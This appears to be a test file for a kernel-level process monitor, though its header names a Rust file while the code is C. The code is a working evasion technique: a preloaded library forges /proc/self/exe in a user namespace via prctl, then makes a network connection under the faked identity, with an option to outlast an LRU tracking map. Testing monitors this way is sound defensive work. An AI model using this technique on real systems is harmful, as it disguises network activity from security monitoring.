/* tests/kernel_attack.rs: an unprivileged process points /proc/self/exe at
 * another file without an exec, then connects.
 *
 * Built as a shared object and preloaded into a dynamically linked program
 * (LD_PRELOAD): its constructor enters a new user namespace (where it has
 * CAP_CHECKPOINT_RESTORE), unmaps every mapping of its own executable (the
 * kernel refuses the change while the old file is mapped), calls
 * prctl(PR_SET_MM, PR_SET_MM_MAP) with exe_fd = FORGE_EXE, then connects to
 * FORGE_HOST:FORGE_PORT (IPv4), sends 16 bytes, reads them back and prints
 * one JSON line (dprintf: `stdout` itself may live in the program's unmapped
 * data); it never returns into the unmapped program. Link with -Wl,-z,now:
 * a lazy symbol lookup after the unmap would read the program's unmapped
 * dynamic section.
 *
 * With FORGE_WAIT=FILE it forks first (the child does all of the above,
 * the parent waits for it), and the child, before anything else, waits (up
 * to 10 minutes) until FILE holds a number (written by another process once
 * it has run tests/support/churn.c), which it adds to the JSON as
 * "churned". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void forge(void) {
    const char *want = getenv("FORGE_EXE");
    const char *host = getenv("FORGE_HOST");
    const char *port = getenv("FORGE_PORT");
    if (!want || !host || !port)
        return;
    long churned = -1;
    const char *wait_file = getenv("FORGE_WAIT");
    if (wait_file) {
        /* The forging process is a fork that never exec'ed: its kernel
         * record was inserted once, at the fork, and never replaced (an LRU
         * map marks a replaced entry as recently used). */
        pid_t c = fork();
        if (c > 0) {
            int st = 0;
            waitpid(c, &st, 0);
            _exit(WIFEXITED(st) ? WEXITSTATUS(st) : 3);
        }
        /* Another process runs the churn meanwhile. */
        char num[64] = {0};
        for (int tries = 0; tries < 600000 && !num[0]; tries++) {
            int wf = open(wait_file, O_RDONLY);
            if (wf >= 0) {
                if (read(wf, num, sizeof num - 1) < 0)
                    num[0] = 0;
                close(wf);
            }
            if (!num[0])
                usleep(1000);
        }
        churned = atol(num);
    }
    char self[4096] = {0};
    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        _exit(2);
    if (unshare(CLONE_NEWUSER) != 0) {
        dprintf(1, "{\"ok\": false, \"error\": \"unshare: %s\"}\n", strerror(errno));
        _exit(0);
    }
    /* /proc/self/stat fields 26-28 and 45-51: the current layout. */
    char st[4096] = {0};
    int sf = open("/proc/self/stat", O_RDONLY);
    if (sf < 0 || read(sf, st, sizeof st - 1) <= 0)
        _exit(2);
    close(sf);
    unsigned long f[64] = {0};
    char *p = strrchr(st, ')');
    if (!p)
        _exit(2);
    p += 2;
    for (int i = 3; i < 64 && *p; i++) {
        if (i == 3) { /* state: one letter */
            p += 2;
            continue;
        }
        f[i] = strtoul(p, &p, 10);
        while (*p == ' ')
            p++;
    }
    struct prctl_mm_map mm = {0};
    mm.start_code = f[26];
    mm.end_code = f[27];
    mm.start_stack = f[28];
    mm.start_data = f[45];
    mm.end_data = f[46];
    mm.start_brk = f[47];
    mm.arg_start = f[48];
    mm.arg_end = f[49];
    mm.env_start = f[50];
    mm.env_end = f[51];
    mm.brk = (unsigned long)sbrk(0);
    FILE *m = fopen("/proc/self/maps", "r");
    char line[8192];
    unsigned long ranges[64][2];
    int n = 0;
    while (m && fgets(line, sizeof line, m)) {
        unsigned long a, b;
        char path[4096] = {0};
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path) >= 2 &&
            strcmp(path, self) == 0 && n < 64) {
            ranges[n][0] = a;
            ranges[n][1] = b;
            n++;
        }
    }
    if (m)
        fclose(m);
    for (int k = 0; k < n; k++)
        munmap((void *)ranges[k][0], ranges[k][1] - ranges[k][0]);
    mm.exe_fd = open(want, O_RDONLY);
    long r = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &mm, sizeof mm, 0);
    int prctl_errno = r ? errno : 0;
    char now[4096] = {0};
    readlink("/proc/self/exe", now, sizeof now - 1);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {0};
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)atoi(port));
    inet_pton(AF_INET, host, &sa.sin_addr);
    int ok = 0, cerr = 0, lport = 0;
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
        struct sockaddr_in me;
        socklen_t len = sizeof me;
        getsockname(s, (struct sockaddr *)&me, &len);
        lport = ntohs(me.sin_port);
        struct timeval tv = {5, 0};
        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        const char msg[] = "0123456789abcdef";
        char got[16];
        size_t have = 0;
        if (write(s, msg, 16) == 16) {
            while (have < 16) {
                ssize_t k = read(s, got + have, 16 - have);
                if (k <= 0)
                    break;
                have += (size_t)k;
            }
        }
        ok = have == 16 && memcmp(got, msg, 16) == 0;
    } else {
        cerr = errno;
    }
    dprintf(1, "{\"prctl\": %ld, \"prctl_errno\": %d, \"was\": \"%s\", \"exe\": \"%s\", "
           "\"local_port\": %d, \"connect_errno\": %d, \"churned\": %ld, \"ok\": %s}\n",
           r, prctl_errno, self, now, lport, cerr, churned, ok ? "true" : "false");
    _exit(0);
}
